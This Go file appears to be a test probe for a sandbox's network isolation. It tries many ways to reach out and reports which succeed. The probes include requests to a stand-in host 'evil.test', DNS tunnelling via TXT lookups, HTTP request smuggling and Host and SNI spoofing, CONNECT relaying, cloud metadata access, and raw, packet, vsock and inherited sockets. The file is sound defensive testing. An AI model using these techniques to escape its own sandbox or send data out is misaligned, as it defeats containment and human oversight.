package network

import (
	"context"
	"crypto/tls"
	"encoding/json"
	"errors"
	"fmt"
	"io"
	"net"
	"net/http"
	"os"
	"strings"
	"syscall"
	"time"

	"golang.org/x/sys/unix"
)

// patience is when something counts as a hang.
const patience = time.Minute

// tried is what came of an attempt.
type tried struct {
	Name string
	Err  string
	Took time.Duration
}

// attempt tries to have the world hear its name.
type attempt struct {
	name string
	do   func(name string) error
}

// attempts to get out. Each is heard by the world under its name when it does.
var attempts = []attempt{
	{"direct", func(n string) error { return get("http://"+public+"/"+n, "") }},
	{"private", func(n string) error { return get("http://"+private+"/"+n, "") }},
	{"metadata", func(n string) error { return get("http://"+metadata+"/"+n, "") }},
	{"loopback", func(n string) error { return get("http://127.0.0.1:8081/"+n, "") }},
	{"port", func(n string) error { return get("http://allowed.test:8080/"+n, "") }},
	{"unlisted", func(n string) error { return get("http://evil.test/"+n, "") }},
	{"rebinding", func(n string) error { return get("http://inside.allowed.test/"+n, "") }},
	{"host", func(n string) error { return get("http://allowed.test/"+n, "evil.test") }},
	{"second", func(n string) error {
		return raw("allowed.test:80", "GET /fine HTTP/1.1\r\nHost: allowed.test\r\n\r\nGET /"+n+" HTTP/1.1\r\nHost: evil.test\r\nConnection: close\r\n\r\n", 2)
	}},
	{"whole-url", func(n string) error {
		return raw("allowed.test:80", "GET http://evil.test/"+n+" HTTP/1.1\r\nHost: allowed.test\r\nConnection: close\r\n\r\n", 1)
	}},
	{"upgrade", func(n string) error {
		return raw("allowed.test:80", "GET /fine HTTP/1.1\r\nHost: allowed.test\r\nConnection: upgrade\r\nUpgrade: websocket\r\n\r\nGET /"+n+" HTTP/1.1\r\nHost: evil.test\r\nConnection: close\r\n\r\n", 2)
	}},
	{"relay", func(n string) error {
		return raw("allowed.test:80", "CONNECT "+n+":443 HTTP/1.1\r\nHost: "+n+":443\r\n\r\n", 1)
	}},
	{"sni", func(n string) error { return getTLS("allowed.test:443", "evil.test", n) }},
	{"other-dns", func(n string) error { return lookup("udp", n+".evil.test") }},
	{"other-dns-tcp", func(n string) error { return raw(public+":53", n+"\n", 0) }},
	{"tunnel", func(n string) error {
		_, err := net.DefaultResolver.LookupTXT(context.Background(), n+".evil.test.")
		var none *net.DNSError
		if errors.As(err, &none) && none.IsNotFound {
			return nil // it was asked for, or not: the world knows
		}
		return err
	}},
	{"udp", func(n string) error { return datagram(public+":4444", n) }},
	{"quic", func(n string) error { return datagram(public+":443", n) }},
}

// fixed are refused in every run, also in one that has the host's network.
var fixed = []attempt{
	{"raw socket", func(string) error { return socket(unix.AF_INET, unix.SOCK_RAW, unix.IPPROTO_ICMP) }},
	{"packet socket", func(string) error { return socket(unix.AF_PACKET, unix.SOCK_RAW, 0) }},
	{"vsock", func(string) error { return socket(unix.AF_VSOCK, unix.SOCK_STREAM, 0) }},
	{"abstract socket", func(string) error {
		c, err := net.Dial("unix", "@pinfold-network-test")
		if err == nil {
			err = c.Close()
		}
		return err
	}},
	{"inherited socket", func(string) error {
		_, err := unix.Write(3, []byte("inherited\n"))
		if _, e := unix.GetsockoptInt(3, unix.SOL_SOCKET, unix.SO_TYPE); err == nil {
			err = e
		}
		return err
	}},
}

// quiet are attempts that the world does not hear.
var quiet = []attempt{
	{"ping", func(string) error {
		fd, err := unix.Socket(unix.AF_INET, unix.SOCK_DGRAM, unix.IPPROTO_ICMP)
		if err == nil {
			unix.Close(fd)
		}
		return err
	}},
}

// allowed are what a run with allowed.test, *.allowed.test, allowed.test:22 and
// localhost:8082 may do.
var allowed = []attempt{
	{"http", func(n string) error { return get("http://allowed.test/"+n, "") }},
	{"wildcard", func(n string) error { return get("http://more.allowed.test/"+n, "") }},
	{"https", func(n string) error { return getTLS("allowed.test:443", "allowed.test", n) }},
	{"lines", func(n string) error { return raw("allowed.test:22", n+"\n", 0) }},
	{"named-loopback", func(n string) error { return get("http://localhost:8082/"+n, "") }},
	{"same-port", func(n string) error {
		// The server closes first, and the port is the same: it must be free again.
		for i := range 20 {
			d := net.Dialer{Timeout: patience, LocalAddr: &net.TCPAddr{Port: 40000}, Control: func(_, _ string, c syscall.RawConn) (err error) {
				return errors.Join(c.Control(func(fd uintptr) { err = unix.SetsockoptInt(int(fd), unix.SOL_SOCKET, unix.SO_REUSEADDR, 1) }), err)
			}}
			c, err := d.Dial("tcp4", "allowed.test:22")
			// Either end may be not quite closed, for a moment.
			for begin := time.Now(); (errors.Is(err, unix.EADDRNOTAVAIL) || errors.Is(err, unix.ECONNREFUSED)) && time.Since(begin) < patience/2; {
				c, err = d.Dial("tcp4", "allowed.test:22")
			}
			if err == nil {
				err = say(c, n+"\n", 0)
			}
			if err != nil {
				return fmt.Errorf("connection %d: %w", i, err)
			}
		}
		return nil
	}},
}

var lists = map[string][]attempt{"attempts": attempts, "fixed": fixed, "quiet": quiet, "allowed": allowed}

// probeMain carries out lists of attempts and prints what came of them.
func probeMain(args []string) int {
	if args[0] == "serve" {
		return serve()
	}
	var all []tried
	for _, list := range args {
		for _, a := range lists[list] {
			begin := time.Now()
			r := tried{Name: a.name}
			if err := a.do(a.name); err != nil {
				r.Err = err.Error()
			}
			r.Took = time.Since(begin)
			all = append(all, r)
		}
	}
	if err := json.NewEncoder(os.Stdout).Encode(all); err != nil {
		return 1
	}
	return 0
}

// serve answers on a port of the loopback until its input ends.
func serve() int {
	l, err := net.Listen("tcp", "127.0.0.1:7070")
	if err != nil {
		fmt.Println(err)
		return 1
	}
	go func() {
		_ = http.Serve(l, http.HandlerFunc(func(w http.ResponseWriter, _ *http.Request) { _, _ = io.WriteString(w, "from inside") }))
	}()
	fmt.Println("ready")
	_, _ = io.Copy(io.Discard, os.Stdin)
	return 0
}

func get(url, host string) error {
	r, err := http.NewRequest(http.MethodGet, url, nil)
	if err != nil {
		return err
	}
	r.Host = host
	client := http.Client{Timeout: patience, Transport: &http.Transport{DisableKeepAlives: true}}
	resp, err := client.Do(r)
	if err != nil {
		return err
	}
	defer resp.Body.Close()
	_, err = io.ReadAll(resp.Body)
	return err
}

func getTLS(at, name, path string) error {
	d := net.Dialer{Timeout: patience}
	c, err := tls.DialWithDialer(&d, "tcp", at, &tls.Config{ServerName: name, InsecureSkipVerify: true})
	if err != nil {
		return err
	}
	return say(c, "GET /"+path+" HTTP/1.1\r\nHost: allowed.test\r\nConnection: close\r\n\r\n", 1)
}

// raw sends text and reads until the end; answers are as many as that many of HTTP.
func raw(at, text string, answers int) error {
	c, err := net.DialTimeout("tcp", at, patience)
	if err != nil {
		return err
	}
	return say(c, text, answers)
}

func say(c net.Conn, text string, answers int) error {
	defer c.Close()
	_ = c.SetDeadline(time.Now().Add(patience))
	if _, err := io.WriteString(c, text); err != nil {
		return err
	}
	got, err := io.ReadAll(c)
	if err == nil && strings.Count(string(got), "HTTP/1.1 ") < answers {
		err = fmt.Errorf("too few answers: %q", got)
	}
	if err == nil && len(got) == 0 {
		err = io.ErrUnexpectedEOF
	}
	return err
}

func datagram(at, text string) error {
	c, err := net.Dial("udp", at)
	if err != nil {
		return err
	}
	defer c.Close()
	_ = c.SetDeadline(time.Now().Add(patience))
	if _, err := io.WriteString(c, text); err != nil {
		return err
	}
	_, err = c.Read(make([]byte, 1000))
	return err
}

// lookup asks the world's resolver itself.
func lookup(network, name string) error {
	r := net.Resolver{PreferGo: true, Dial: func(context.Context, string, string) (net.Conn, error) {
		return net.DialTimeout(network, public+":53", patience)
	}}
	_, err := r.LookupHost(context.Background(), name)
	var none *net.DNSError
	if errors.As(err, &none) && none.IsNotFound {
		return nil
	}
	return err
}

func socket(family, kind, protocol int) error {
	fd, err := unix.Socket(family, kind, protocol)
	if err == nil {
		unix.Close(fd)
	}
	return err
}
